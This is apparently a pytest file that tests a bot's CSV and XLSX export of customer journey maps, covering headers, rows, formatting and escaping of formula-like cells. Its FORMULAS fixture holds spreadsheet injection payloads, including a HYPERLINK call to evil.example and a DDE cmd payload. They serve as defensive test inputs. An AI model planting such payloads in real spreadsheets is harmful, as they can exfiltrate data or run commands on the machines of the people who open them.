"""The journey map as a sheet (bot/map_sheet.py): CSV read back with the csv module, XLSX with openpyxl.

Maps come from the scripted businesses (Dutch and English) with the coach's report; one business
gets answers that a spreadsheet would take for formulas."""
from __future__ import annotations

import csv
import dataclasses
import io
from datetime import date
from typing import Any

import pytest
from openpyxl import load_workbook

from bot.coach import build_report
from bot.journey_map import JourneyMap, build_map
from bot.journey_map import labels as map_labels
from bot.map_sheet import COLUMNS, DELIMITERS, render_csv, render_xlsx
from devkit.coach_cases import COACH_BUSINESSES, WEBSHOP_BUSINESS_EN, view_of
from devkit.scripts import Business

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
    "+31 6 1234 5678 bellen",
    "-10% korting bij de kassa",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "Gewoon een contactmoment",
]
HEADERS = {
    "en": ["Stage", "Touchpoint", "Channel", "Feeling (1–5)", "Customers say", "Pains and waits", "Already delights", "Team",
           "Evidence", "Improve first", "WOW ideas"],
    "nl": ["Fase", "Contactmoment", "Kanaal", "Gevoel (1–5)", "Klanten zeggen", "Pijnpunten en wachten", "Maakt nu al blij", "Team",
           "Bewijs", "Eerst verbeteren", "WOW-ideeën"],
}


def journey_map(business: Business) -> JourneyMap:
    view = view_of(business)
    return build_map(view, build_report(view, date(2026, 12, 1)))


def formula_business() -> Business:
    """The webshop with touchpoint names, pains and a stage name that look like formulas."""
    names = iter(FORMULAS)
    stages = [
        dataclasses.replace(s, touchpoints=tuple(dataclasses.replace(tp, name=next(names, tp.name), pain="=1+1 " + tp.pain if tp.pain else "") for tp in s.touchpoints))
        for s in WEBSHOP_BUSINESS_EN.stages
    ]
    stages[0] = dataclasses.replace(stages[0], name="=2*3 Searching")
    return dataclasses.replace(WEBSHOP_BUSINESS_EN, key="formulas-en", stages=tuple(stages))


def read_csv(m: JourneyMap) -> list[list[str]]:
    data = render_csv(m)
    assert data.startswith(b"\xef\xbb\xbf"), "Excel needs the byte-order mark to read UTF-8"
    text = data.decode("utf-8")[1:]
    assert not text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=DELIMITERS[m.lang]))


def read_xlsx(m: JourneyMap) -> Any:
    return load_workbook(io.BytesIO(render_xlsx(m))).active


def expected_rows(m: JourneyMap) -> list[tuple[str, str]]:
    return [(s.name, t.name) for s, t in m.touchpoints()] + [(s.name, m.label("no_touchpoints")) for s in m.stages if not s.touchpoints]


@pytest.mark.parametrize("business", COACH_BUSINESSES, ids=[b.key for b in COACH_BUSINESSES])
def test_csv_has_a_row_per_touchpoint_under_the_owners_language_header(business: Business) -> None:
    m = journey_map(business)
    header, *rows = read_csv(m)
    assert header == HEADERS[m.lang] == [map_labels(m.lang)[key] for key in COLUMNS]
    assert [(r[0], r[1]) for r in rows] == [(s.name, t.name) for s, t in m.touchpoints()]
    assert all(len(r) == len(COLUMNS) for r in rows)
    column = {key: n for n, key in enumerate(COLUMNS)}
    for row, (stage, tp) in zip(rows, m.touchpoints()):
        assert row[column["channel"]] == tp.channel
        assert row[column["feeling"]] == (str(tp.feeling) if tp.feeling is not None else "")
        assert row[column["pains"]] == tp.pain
        assert row[column["team"]] == tp.team
        assert row[column["delights"]] == stage.delights
        assert row[column["evidence"]] == m.label(f"evidence_{stage.evidence}")
        for title in tp.improvements:
            assert title in row[column["improvements"]].split("\n")
        for idea in tp.wows:
            assert idea in row[column["wows"]].split("\n")
    placed = sum(len(tp.improvements) + len(tp.wows) for _, tp in m.touchpoints()) + sum(len(s.improvements) + len(s.wows) for s in m.stages)
    listed = sum(len([x for x in r[column[k]].split("\n") if x]) for r in rows for k in ("improvements", "wows"))
    assert placed == listed > 0


def test_the_customers_score_a_stage_without_touchpoints_and_stage_wide_ideas() -> None:
    m = journey_map(COACH_BUSINESSES[0])  # Dutch: semicolons, a decimal comma
    stages = list(m.stages)
    stages[0] = dataclasses.replace(stages[0], customers=3.75, responses=8, improvements=("Hele fase beter",), wows=("Verrassing voor de hele fase",))
    stages[2] = dataclasses.replace(stages[2], touchpoints=())
    changed = dataclasses.replace(m, stages=tuple(stages))
    header, *rows = read_csv(changed)
    assert sorted((r[0], r[1]) for r in rows) == sorted(expected_rows(changed))
    empty = [r for r in rows if r[0] == stages[2].name]
    assert len(empty) == 1 and empty[0][1] == "Nog geen contactmomenten" and empty[0][3] == ""
    first_stage = [r for r in rows if r[0] == stages[0].name]
    assert {r[4] for r in first_stage} == {"3,8"}  # on every row of the stage
    assert ["Hele fase beter" in r[9] for r in first_stage] == [True] + [False] * (len(first_stage) - 1)  # once, on its first row
    assert "Verrassing voor de hele fase" in first_stage[0][10]
    sheet = read_xlsx(changed)
    values = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]
    assert len(values) == len(rows)
    assert {v[4] for v in values if v[0] == stages[0].name} == {3.75}
    assert sheet.cell(row=2, column=5).number_format == "0.0"


@pytest.mark.parametrize("business", COACH_BUSINESSES, ids=[b.key for b in COACH_BUSINESSES])
def test_xlsx_holds_the_same_rows_with_a_bold_frozen_header(business: Business) -> None:
    m = journey_map(business)
    sheet = read_xlsx(m)
    header, *rows = read_csv(m)
    assert [c.value for c in sheet[1]] == header
    assert all(c.font.bold for c in sheet[1])
    assert sheet.freeze_panes == "A2"
    values = [["" if c.value is None else str(c.value) for c in row] for row in sheet.iter_rows(min_row=2)]
    assert values == rows
    assert all(isinstance(row[3].value, int) for row in sheet.iter_rows(min_row=2))  # feelings are numbers, not text
    assert all(c.alignment.wrap_text for row in sheet.iter_rows() for c in row)
    widths = {key: sheet.column_dimensions[chr(ord("A") + n)].width for n, key in enumerate(COLUMNS)}
    assert widths["pains"] > widths["feeling"] >= 10 and widths["wows"] >= 40


@pytest.mark.parametrize("lang", ["en", "nl"])
def test_no_cell_is_taken_for_a_formula(lang: str) -> None:
    business = formula_business()
    m = journey_map(dataclasses.replace(business, lang=lang) if lang != business.lang else business)
    header, *rows = read_csv(m)
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    for name in FORMULAS[:-1]:
        assert "'" + name in cells, name
    assert "Gewoon een contactmoment" in cells
    assert "'=2*3 Searching" in cells
    assert any(c.startswith("'=1+1 ") for c in cells)
    sheet = read_xlsx(m)
    xlsx_cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in xlsx_cells if c.data_type == "f"]
    assert not [c.value for c in xlsx_cells if isinstance(c.value, str) and c.value[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert {c.value for c in xlsx_cells} >= {"'" + name for name in FORMULAS[:-1]}
